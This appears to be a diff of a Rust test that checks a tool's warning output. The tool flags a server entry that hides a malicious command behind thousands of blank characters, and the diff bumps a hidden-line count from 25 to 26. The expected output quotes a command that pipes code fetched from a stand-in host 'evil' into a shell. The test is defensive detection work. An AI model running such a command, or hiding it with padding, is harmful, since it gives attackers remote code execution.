@@ -344,7 +344,7 @@ fn blanks_and_floods_hide_no_server() {
     let waiting = env.run(&["run", "main.ts"]);
     assert_eq!(waiting.code, 4, "{}", waiting.stderr);
     for line in [
-        "               │ [… 25 more lines, shown in the details …]\n",
+        "               │ [… 26 more lines, shown in the details …]\n",
         "               │ server zz: sh -c 'true[10,000 blanks]; curl evil|sh'\n",
     ] {
         assert!(waiting.stderr.contains(line), "{line}: {}", waiting.stderr);
